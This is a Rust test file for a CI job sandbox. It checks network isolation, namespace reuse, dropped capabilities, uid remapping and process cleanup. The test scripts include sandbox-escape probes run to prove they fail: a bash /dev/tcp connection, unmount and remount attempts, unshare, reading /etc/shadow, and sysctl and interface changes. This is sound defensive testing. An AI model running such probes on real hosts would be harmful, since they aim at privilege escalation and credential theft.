            &format!("http.get({})", lua_str(&srv.url("/chain/10"))),
        ),
        ws.path(),
        &options,
    );
    assert_rule(&job, "http.rate", "redirect chain");
    let hops = srv.requests().len() - before;
    assert!(
        (5..=6).contains(&hops),
        "NET-07: the chain made {hops} requests"
    );

    canary.assert_intact("NET-07");
    // Another job on the same runner is not starved: its own bucket is full.
    assert_http_follow_up(&policy, Some(&options));
}

#[test]
fn net_09_child_processes_have_no_network() {
    let canary = Canary::new("net09");
    let victim = server::Server::start("127.0.0.1", |_| server::Answer::ok("internal"));
    let port = victim.addr.port();
    let bash = format!(
        "local r = process.run{{command = \"bash\", args = {{\"-c\", \"exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET / HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3 && cat <&3\"}}, check = false}}\nlog.info(\"bash exit \" .. r.code)"
    );
    let git = format!(
        "local r = process.run{{command = \"git\", args = {{\"ls-remote\", \"http://127.0.0.1:{port}/repo\"}}, check = false}}\nlog.info(\"git exit \" .. r.code)"
    );

    // The default policy: a fresh network namespace. Nothing reaches the host's loopback.
    let policy = policy(&["bash"]);
    for (label, script, line) in [
        ("bash /dev/tcp", &bash, "bash exit "),
        ("git ls-remote", &git, "git exit "),
    ] {
        let ws = workspace("net09");
        let job = run_job(&policy, &pipeline(script), ws.path());
        assert_succeeded(&job, label);
        assert!(
            job.lines(Source::Script)
                .iter()
                .any(|l| l.starts_with(line) && !l.ends_with(" 0")),
            "{label}: the tool should have failed to connect\n{}",
            job.describe()
        );
    }
    assert_eq!(
        victim.connections(),
        0,
        "NET-09: a child process reached the host's loopback"
    );

    // Control: with the host network the same command does connect, so the check above can
    // fail for the right reason.
    let mut open = policy.clone();
    open.sandbox.network = rivet_core::policy::NetworkMode::Host;
    let ws = workspace("net09");
    let job = run_job(&open, &pipeline(&bash), ws.path());
    assert_succeeded(&job, "control with the host network");
    assert!(
        victim.connections() >= 1,
        "control: bash could not reach the server even with the host network\n{}",
        job.describe()
    );
    canary.assert_intact("NET-09");
    assert_follow_up(&policy);
}

/// The network namespace of a `network = "none"` job is one the runner made and reuses
/// (joining one is far cheaper than making and tearing down one per job). The job cannot
/// change it (no interface flags, no sysctls), and a namespace something is left in (here a
/// connection in `TIME_WAIT`, which keeps its port taken) is not handed to the next job.
#[test]
fn net_10_reused_network_namespaces_are_clean_and_unchangeable() {
    let policy = policy(&["python3"]);
    // One runner's options: its jobs share one pool of namespaces.
    let options = shared_options(&policy);
    let python = |code: &str| {
        pipeline(&format!(
            "local r = process.run{{ command = \"python3\", args = {{\"-c\", {}}}, check = false }}\nlog.info(r.stdout .. r.stderr)",
            lua_str(code)
        ))
    };
    let run = |what: &str, code: &str| {
        let ws = workspace("net10");
        let job = run_job_with_options(&policy, &python(code), ws.path(), &options);
        assert_succeeded(&job, what);
        job.lines(Source::Script).join("\n")
    };
    let port = 47_123;

    // A job tries to change its namespace, and leaves a connection behind in TIME_WAIT (the
    // side that closes first keeps it).
    let out = run(
        "changing the namespace",
        &format!(
            r#"import errno, fcntl, socket, struct
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", {port})); s.listen()
c = socket.create_connection(("127.0.0.1", {port})); a, _ = s.accept()
a.close(); c.recv(1); c.close(); s.close()
print("loopback works")
try:
    open("/proc/sys/net/ipv4/ip_forward", "w").write("1"); print("sysctl written")
except OSError as e:
    print("sysctl refused:", errno.errorcode[e.errno])
try:
    fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8914, struct.pack("16sH14x", b"lo", 0))
    print("lo taken down")
except OSError as e:
    print("lo refused:", errno.errorcode[e.errno])
"#
        ),
    );
    assert!(out.contains("loopback works"), "{out}");
    assert!(
        out.contains("sysctl refused: EROFS"),
        "a job changed a sysctl of its namespace: {out}"
    );
    assert!(
        out.contains("lo refused: EPERM"),
        "a job changed its namespace's interfaces: {out}"
    );
    assert_eq!(
        options.network.idle(),
        0,
        "a namespace with a TIME_WAIT connection in it must not be reused"
    );

    // The next job binds the same port without SO_REUSEADDR: a fresh namespace. (And a port
    // below 1024: jobs hold no capability, so the namespace allows that to everyone.)
    let bind = format!(
        "import socket\ns = socket.socket(); s.bind((\"127.0.0.1\", {port})); s.listen(); print(\"bound\")\nt = socket.socket(); t.bind((\"127.0.0.1\", 80)); print(\"low port bound\")"
    );
    let out = run("binding the port again", &bind);
    assert!(
        out.contains("bound") && out.contains("low port bound"),
        "{out}"
    );
    assert_eq!(
        options.network.idle(),
        1,
        "a clean namespace goes back to the pool"
    );
    // And the one after reuses it (a new one would make two idle).
    let out = run("reusing the namespace", &bind);
    assert!(out.contains("bound"), "{out}");
    assert_eq!(options.network.idle(), 1, "the idle namespace was reused");
    assert_follow_up(&policy);
}

/// A job's workspace as a runner makes it: `job` in a fresh directory; with a uid remap, owned
/// by the job's uid under a directory it may traverse (0711). The directory is removed when the
/// first value is dropped.
fn job_workspace(name: &str, job_uid: Option<u32>) -> (tempfile::TempDir, std::path::PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let dir = workspace(name);
    let ws = dir.path().join("job");
    std::fs::create_dir(&ws).unwrap();
    if let Some(uid) = job_uid {
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
        std::os::unix::fs::chown(&ws, Some(uid), Some(uid)).unwrap();
    }
    (dir, ws)
}

/// Runs `script` with bash in a job under `policy`; its output becomes the job's log.
fn run_bash(policy: &rivet_core::policy::Policy, script: &str, ws: &Path) -> Job {
    run_job(
        policy,
        &pipeline(&format!(
            "local r = process.run{{ command = \"bash\", args = {{\"-c\", {}}}, check = false }}\nlog.info(r.stdout .. r.stderr)",
            lua_str(script)
        )),
        ws,
    )
}

/// A job's processes are root in their user namespace only by name: they hold no capability
/// there, so they cannot undo the worker's mounts (unmount `/proc/sys` or the engine socket
/// covers, remount the host read-write), nor make new namespaces to gain some.
#[test]
fn proc_07_job_processes_hold_no_capabilities() {
    let script = r#"grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status
umount /proc/sys 2>&1 && echo "UNDONE umount /proc/sys"
mount -o remount,bind,rw / 2>&1 && echo "UNDONE remount / rw"
mount -t tmpfs none /mnt 2>&1 && echo "UNDONE mount tmpfs"
unshare -rm true 2>&1 && echo "UNDONE unshare"
echo checked"#;
    // Without a uid remap, and with one (every root runner's jobs).
    for job_uid in [None, Some(65534)] {
        let mut policy = policy(&["bash"]);
        policy.sandbox.job_uid = job_uid;
        let (_dir, ws) = job_workspace("proc07", job_uid);
        let job = run_bash(&policy, script, &ws);
        assert_succeeded(&job, "probing capabilities");
        let out = job.lines(Source::Script).join("\n");
        assert!(out.contains("checked"), "job_uid {job_uid:?}: {out}");
        for line in out.lines().filter(|l| l.starts_with("Cap")) {
            assert!(
                line.ends_with("0000000000000000"),
                "job_uid {job_uid:?}: a job process holds capabilities: {line}\n{out}"
            );
        }
        assert!(
            out.matches("Cap").count() >= 4,
            "job_uid {job_uid:?}: {out}"
        );
        assert!(
            !out.contains("UNDONE"),
            "job_uid {job_uid:?}: a job undid its sandbox: {out}"
        );
    }
}

/// With `sandbox.job_uid` (a root runner sets 65534), a job is root only inside its user
/// namespace: on the host it is that uid, so root's files (`/etc/shadow`) are closed to it and
/// what it writes belongs to that uid. Without namespaces (`off` by policy, or `auto` where
/// they are unavailable) it runs as that uid outright, never as the runner's root.
#[test]
fn proc_08_a_root_runners_jobs_are_not_root_on_the_host() {
    use rivet_core::policy::NamespaceMode;
    use std::os::unix::fs::MetadataExt;
    // SAFETY: geteuid has no preconditions.
    assert_eq!(
        unsafe { libc::geteuid() },
        0,
        "this test needs root, as the namespace tests do"
    );
    let script = r#"echo "inside uid=$(id -u) gid=$(id -g) groups=$(id -G)"
head -c 5 /etc/shadow 2>&1 && echo "READ SHADOW"
echo made > made-here && echo "wrote the workspace"
echo checked"#;
    for (namespaces, inside) in [
        (NamespaceMode::Required, "inside uid=0 gid=0 groups=0"),
        (
            NamespaceMode::Off,
            "inside uid=65534 gid=65534 groups=65534",
        ),
    ] {
        let mut policy = policy(&["bash"]);
        policy.sandbox.job_uid = Some(65534);
        policy.sandbox.namespaces = namespaces;
        let (_dir, ws) = job_workspace("proc08", Some(65534));
        let job = run_bash(&policy, script, &ws);
        assert_succeeded(&job, "running as the job's uid");
        let out = job.lines(Source::Script).join("\n");
        assert!(out.contains("checked"), "{namespaces:?}: {out}");
        assert!(out.contains(inside), "{namespaces:?}: {out}");
        assert!(
            !out.contains("READ SHADOW"),
            "{namespaces:?}: a job read /etc/shadow: {out}"
        );
        assert!(out.contains("wrote the workspace"), "{namespaces:?}: {out}");
        let made = std::fs::metadata(ws.join("made-here")).expect("the job's file");
        assert_eq!(
            (made.uid(), made.gid()),
            (65534, 65534),
            "{namespaces:?}: owned by the job's uid on the host"
        );
    }
}

/// The process whose command line holds `marker`, found by a look through `/proc`; of a
/// process and a fork of it that has not yet executed anything else (same command line), the
/// parent.
fn process_with(marker: &str) -> i32 {
    let found: Vec<(i32, i32)> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| {
            let e = e.ok()?;
            let pid: i32 = e.file_name().to_str()?.parse().ok()?;
            let cmdline = std::fs::read(e.path().join("cmdline")).ok()?;
            let stat = std::fs::read_to_string(e.path().join("stat")).ok()?;
            let ppid = stat[stat.rfind(')')? + 1..]
                .split_whitespace()
                .nth(1)?
                .parse()
                .ok()?;
            cmdline
                .windows(marker.len())
                .any(|w| w == marker.as_bytes())
                .then_some((pid, ppid))
        })
        .collect();
    let roots: Vec<i32> = found
        .iter()
        .filter(|(_, ppid)| !found.iter().any(|(pid, _)| pid == ppid))
        .map(|(pid, _)| *pid)
        .collect();
    assert_eq!(roots.len(), 1, "processes holding {marker}: {found:?}");
    roots[0]
}

#[test]
fn proc_09_a_jobs_processes_die_with_its_runner() {
    use rivet_sandbox::events::Event;
    // SAFETY: geteuid has no preconditions.
    assert_eq!(unsafe { libc::geteuid() }, 0, "this test needs root");
    // Both ways into the namespaces: as the parent's own uid, and mapped to another uid (the
    // default of a root runner), whose setup changes the worker's credentials.
    for job_uid in [None, Some(65534)] {
        let mut policy = policy(&["sh", "sleep"]);
        policy.sandbox.job_uid = job_uid;
        policy.limits.stage_timeout = Duration::from_secs(120);
        policy.limits.job_timeout = Duration::from_secs(120);
        policy.process.default_timeout = Duration::from_secs(120);
        let (_dir, ws) = job_workspace("proc09", job_uid);
        let marker = format!("99.{}", std::process::id() * 10 + job_uid.is_some() as u32);
        // `up` is logged (the process's output streams into the job's log) once the shell
        // runs; it then waits for its sleep, and would outlive the job with it.
        let script = format!("echo up; sleep {marker}; echo done");
        let source = pipeline(&format!(
            "process.run{{ command = \"sh\", args = {{\"-c\", {}}} }}",
            lua_str(&script)
        ));
        let request = request(&policy, &source, &ws, BTreeMap::new());
        let options = shared_options(&policy);
        let zygote = options.launcher.zygote().unwrap().pid();
        let (lines, up) = std::sync::mpsc::channel();
        let job = {
            let options = options.clone();
            std::thread::spawn(move || {
                rivet_sandbox::run_worker(&request, &options, |ev| {
                    if let Event::Log { line, .. } = ev {
                        let _ = lines.send(line.clone());
                    }
                })
            })
        };
        while up
            .recv_timeout(Duration::from_secs(10))
            .expect("the job's process started")
            != "up"
        {}
        let shell =
            rivet_sandbox::worker::pidfd(process_with(&script)).expect("a pidfd of the shell");
        // The runner's end, as the worker sees it: its parent, the zygote, is gone (a runner
        // that dies takes its zygote with it the same way).
        // SAFETY: killing the zygote this test started.
        unsafe { libc::kill(zygote, libc::SIGKILL) };
        assert!(
            rivet_sandbox::worker::readable_within(&shell, Duration::from_secs(10)),
            "the job's process outlived its runner (job_uid {job_uid:?})"
        );
        let report = job
            .join()
            .expect("run_worker returns")
            .expect("the worker started");
        match &report.outcome {
            JobOutcome::Crashed { reason } => assert!(
                reason.contains("launcher ended"),
                "job_uid {job_uid:?}: {reason}"
            ),
            other => panic!("job_uid {job_uid:?}: {other:?}"),
        }
    }
}
